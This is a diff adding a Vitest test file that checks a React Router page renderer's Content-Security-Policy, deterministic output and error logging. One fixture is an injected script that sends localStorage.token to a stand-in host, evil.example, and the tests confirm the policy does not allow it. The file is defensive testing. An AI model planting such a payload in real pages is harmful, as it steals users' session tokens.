@@ -1,0 +1,124 @@
+import { createElement } from "react";
+import {
+  isRouteErrorResponse,
+  type LinksFunction,
+  Outlet,
+  Scripts,
+  type ServerBuild,
+  useRouteError,
+} from "react-router";
+import { expect, test } from "vitest";
+import type { GuestApp } from "../../app-context.ts";
+import * as entry from "../../entry.server.tsx";
+import { AppError } from "../../kit/app-error.ts";
+import { createPageRenderer, hashOf } from "./render-page.ts";
+
+const injected = "fetch('//evil.example/' + localStorage.token)";
+const own = "document.title = 'ours'";
+
+/** Markup that React takes as it is. */
+const raw = (__html: string) => ({ dangerouslySetInnerHTML: { __html } });
+
+/** As the root does it: a script of the build, some that came in with somebody's text, and the framework's own. */
+function Root() {
+  return createElement("html", null, [
+    createElement("head", { key: "head" }, createElement("script", raw(own))),
+    createElement("body", { key: "body" }, [
+      createElement("div", { key: "text", ...raw(`<script>${injected}</script>`) }),
+      createElement("div", { key: "marked", ...raw(`<script nonce="a">${injected}</script>`) }),
+      createElement(Outlet, { key: "outlet" }),
+      createElement(Scripts, { key: "scripts" }),
+    ]),
+  ]);
+}
+
+function Failed() {
+  const error = useRouteError();
+  return createElement("p", null, isRouteErrorResponse(error) ? JSON.stringify(error.data) : "unknown");
+}
+
+function buildOf(loader: () => unknown): ServerBuild {
+  const links: LinksFunction = () => [];
+  const modules = {
+    root: { default: Root, ErrorBoundary: Failed, links },
+    page: { default: () => createElement("p", null, "text"), loader },
+  };
+  const routes = {
+    root: { id: "root", path: "", module: modules.root },
+    page: { id: "page", parentId: "root", index: true, module: modules.page },
+  };
+  const inManifest = (id: "root" | "page") => ({
+    ...routes[id],
+    module: `/assets/${id}.js`,
+    hasLoader: id === "page",
+    imports: [],
+  });
+  return {
+    entry: { module: entry },
+    routes,
+    assets: {
+      version: "1",
+      url: "/assets/manifest.js",
+      entry: { module: "/assets/entry.js", imports: [] },
+      routes: { root: inManifest("root"), page: inManifest("page") },
+    },
+    publicPath: "/",
+    assetsBuildDirectory: "build/client",
+    future: {},
+    ssr: true,
+    isSpaMode: false,
+    prerender: [],
+    routeDiscovery: { mode: "initial" },
+  } as unknown as ServerBuild;
+}
+
+function renderOnce(loader: () => unknown) {
+  const logged: object[] = [];
+  const renderer = createPageRenderer({
+    build: buildOf(loader),
+    guestApp: {} as GuestApp,
+    origin: "https://site.test",
+    ownScripts: [own],
+    logger: { error: (entry: object) => void logged.push(entry) } as never,
+  });
+  return { logged, page: renderer.render("/", "request-1234") };
+}
+
+test("the policy allows the scripts of the build and of the renderer and none that came in with a text", async () => {
+  const page = await renderOnce(() => null).page;
+  const html = page.body.toString();
+  const policy = new Map(page.headers).get("content-security-policy") ?? "";
+  expect(html).toContain(injected);
+  expect(policy).toContain(hashOf(own));
+  expect(policy).not.toContain(hashOf(injected));
+  const inline = [...html.matchAll(/<script(?![^>]*\ssrc=)[^>]*>([\s\S]*?)<\/script>/g)].map(
+    ([, script = ""]) => script,
+  );
+  const known = inline.filter((script) => script !== injected);
+  expect(known.length).toBeGreaterThan(3);
+  for (const script of known) expect(policy).toContain(hashOf(script));
+});
+
+test("a page is the same bytes each time, and no nonce leaves the server", async () => {
+  const [first, second] = await Promise.all([renderOnce(() => null).page, renderOnce(() => null).page]);
+  expect(first.body.equals(second.body)).toBe(true);
+  expect(first.body.toString().replaceAll('nonce="a"', "")).not.toContain("nonce");
+});
+
+test("a failure is logged once with its cause, under the number that the error screen is told", async () => {
+  const cause = new Error("select secret from wallets");
+  const { page, logged } = renderOnce(() => Promise.reject(cause));
+  const { status, body, headers } = await page;
+  expect(status).toBe(500);
+  expect(logged).toEqual([{ err: cause, request_id: "request-1234", url: "/" }]);
+  expect(body.toString()).toContain("request-1234");
+  expect(body.toString()).not.toContain("wallets");
+  expect(new Map(headers).get("x-request-id")).toBe("request-1234");
+});
+
+test("trouble of the database is thrown, for the caller to say that it passes", async () => {
+  const away = new AppError({ status: 503, code: "SERVICE_UNAVAILABLE", message: "稍后" });
+  const { page, logged } = renderOnce(() => Promise.reject(away));
+  await expect(page).rejects.toBe(away);
+  expect(logged).toEqual([]);
+});
